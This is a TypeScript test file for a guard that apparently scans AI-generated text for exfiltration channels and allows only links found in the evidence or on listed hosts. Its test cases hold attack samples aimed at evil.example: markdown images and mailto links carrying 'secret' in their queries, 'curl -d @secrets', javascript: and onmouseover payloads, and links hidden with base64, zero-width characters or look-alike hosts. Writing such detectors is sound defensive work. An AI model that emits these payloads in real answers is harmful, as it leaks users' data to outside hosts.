import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkAlone, partsOf, repeat } from "../../fixtures/check-alone.ts";
import { createExfiltrationCheck } from "./create-exfiltration-check.ts";

const check = createExfiltrationCheck(["berg.example", "*.docs.example"]);
const evidence = ["Opening hours: https://clinic.example/hours/today?lang=en. Write to mailto:desk@clinic.example."];

async function found(text: string, context = { evidence, question: "Is https://own.example/page right?" }) {
  const result = await checkAlone(check, text, { context });
  return { types: result.spans.map(({ type }) => type), parts: partsOf(text, result), score: result.score };
}

describe("the guard against exfiltration", () => {
  it.each([
    ["EXTERNAL_IMAGE", "![x](https://evil.example/p.png?d=c2VjcmV0)", "https://evil.example/p.png?d=c2VjcmV0"],
    ["EXTERNAL_IMAGE", "<img alt='a' src='https://evil.example/p'>", "https://evil.example/p"],
    ["EXTERNAL_IMAGE", "![x](//evil.example/p)", "//evil.example/p"],
    ["EXTERNAL_LINK", "See [here](https://evil.example/p) now.", "https://evil.example/p"],
    ["EXTERNAL_LINK", "See [here][1].\n\n[1]: https://evil.example/p", "https://evil.example/p"],
    ["EXTERNAL_LINK", "See <https://evil.example/p>.", "https://evil.example/p"],
    ["EXTERNAL_LINK", "See https://evil.example/p.", "https://evil.example/p"],
    ["EXTERNAL_LINK", "See HTTPS:\\\\evil.example", "HTTPS:\\\\evil.example"],
    ["EXTERNAL_LINK", "See http://[2001:db8::1]/p?d=secret", "http://[2001:db8::1]/p?d=secret"],
    ["EXTERNAL_LINK", "See www.evil.example/p", "www.evil.example/p"],
    ["EXTERNAL_LINK", "Dial ftp://evil.example", "ftp://evil.example"],
    ["MAIL_LINK", "[write](mailto:eve@evil.example?body=secret)", "mailto:eve@evil.example?body=secret"],
    ["DATA_LINK", "data:text/html;base64,PHNjcmlwdD4=", "data:text/html;base64,PHNjcmlwdD4="],
    ["SCRIPT_LINK", "[x](javascript:alert(1))", "javascript:alert(1))"],
    ["NETWORK_CODE", "```js\nfetch('ht' + 'tps:' + data)\n```", "fetch('ht' + 'tps:' + data)"],
    ["NETWORK_CODE", "Run curl -d @secrets $TARGET", "Run curl -d @secrets $TARGET"],
    ["ACTIVE_HTML", "Hello <b onmouseover = run()>you</b>", "Hello <b onmouseover = run()>you</b>"],
  ])("finds %s in %s", async (type, text, part) => {
    expect(await found(text)).toMatchObject({ types: [type], parts: [part] });
  });

  it("finds a link that is longer than the one of the evidence, or of another host", async () => {
    for (const link of [
      "https://clinic.example/hours/today?lang=en&d=secret",
      "https://clinic.example/hours/secret",
      "https://clinic.example.evil.example/hours/today?lang=en",
      "https://clinic.example@evil.example/",
      "https://secret@clinic.example/",
      "https://:secret@clinic.example/",
      "https://clinic.example:8443/",
      "https://evil.example/#https://clinic.example/hours/today?lang=en",
      "https://xdocs.example/",
      "https://berg.example.evil.example/",
    ])
      expect((await found(`See ${link}`)).parts, link).toEqual([link]);
  });

  it("allows what the evidence or the question says, and listed hosts", async () => {
    for (const text of [
      "The hours: https://clinic.example/hours/today?lang=en.",
      "The page [of the clinic](http://CLINIC.example/hours/).",
      "See https://clinic.example for more.",
      "Write to mailto:desk@clinic.example, or desk@clinic.example, telephone 030 555 0137.",
      "Yes, https://own.example/page is right.",
      "See https://berg.example/any?d=1 and ![x](https://www.berg.example/y) and https://a.docs.example/z.",
      "Fetch (or collect) the samples at 8:00; the location is room 3. Data: text/plain, 1; file: see page 4.",
      "JavaScript: The Good Parts. Use the form <b>B7</b> and the base of the tripod // or its link.",
    ])
      expect((await found(text)).types, text).toEqual([]);
  });

  it("allows links to what the evidence only names, and not to more", async () => {
    const context = {
      evidence: ["See berg-clinic.example/hours, or write to Desk@berg-clinic.example."],
      question: "",
    };
    for (const text of [
      "See [the hours](https://berg-clinic.example/hours).",
      "See https://berg-clinic.example.",
      "[Write](mailto:desk@berg-clinic.example)",
    ])
      expect((await found(text, context)).types, text).toEqual([]);
    for (const text of [
      "https://berg-clinic.example/hours?d=secret",
      "https://other.berg-clinic.example",
      "mailto:desk@berg-clinic.example?body=secret",
      "mailto:eve@berg-clinic.example",
    ])
      expect((await found(text, context)).types, text).toHaveLength(1);
    expect((await found("mailto:eve@berg.example")).types).toEqual([]);
    expect((await found("mailto:eve@berg.example?body=secret")).types).toEqual(["MAIL_LINK"]);
  });

  it("allows code that is in the evidence", async () => {
    const line = "curl -X POST $API/orders";
    expect((await found(`Run:\n\n    ${line}`, { evidence: [`Orders: \n${line}\n`], question: "" })).types).toEqual([]);
  });

  it("finds links that are hidden in encodings and between invisible characters", async () => {
    const link = "https://evil.example/p?d=secret";
    const base64 = Buffer.from(`see ${link} for more`).toString("base64");
    expect((await found(`Read ${base64} now`)).types).toEqual(["EXTERNAL_LINK"]);
    expect((await found(`Read htt\u200Bps://evil.example/p now`)).types).toContain("EXTERNAL_LINK");
    expect((await found("Read &#104;ttps://evil.example/p now")).types).toContain("EXTERNAL_LINK");
  });

  it("allows an encoded link if the evidence has it in the same code", async () => {
    const base64 = Buffer.from("see https://other.example/p for more").toString("base64");
    expect((await found(`Read ${base64}`, { evidence: [`The code is ${base64}.`], question: "" })).types).toEqual([]);
  });

  it("allows nothing without evidence, except for listed hosts", async () => {
    expect((await checkAlone(check, "https://clinic.example")).score).toBe(0.9);
    expect((await checkAlone(check, "https://berg.example")).score).toBe(0);
  });

  it("finds every link that evidence without links does not have, and none that the evidence has", async () => {
    const link = fc.webUrl({ withQueryParameters: true, withFragments: true });
    await fc.assert(
      fc.asyncProperty(link, async (url) => {
        const text = `See ${url} today`;
        expect((await found(text, { evidence: ["Nothing."], question: "" })).types.length).toBeGreaterThan(0);
        expect((await found(text, { evidence: [`Known: ${url} .`], question: "" })).types).toEqual([]);
      }),
    );
  });

  it("ends on long hostile repetitions, since it reads in linear time", async () => {
    const pieces = [
      "https://",
      "![a](",
      "![",
      "<img ",
      "<a on",
      "www.",
      "//a.",
      "data:a/b;",
      "location",
      "url(",
      "nc a ",
    ];
    for (const piece of [...pieces, "https://a ", "<", "a.b/", "http:\\\\", "curl -", "mailto:", "https://a/?#"]) {
      await checkAlone(check, repeat(piece), { isRead: false });
    }
    await checkAlone(check, "https://a/x", {
      isRead: false,
      context: { evidence: [repeat("/"), `https://a${repeat("/b")}`, repeat("a."), repeat("a.b@"), repeat("a@b.cc/")] },
    });
  }, 20_000);
});
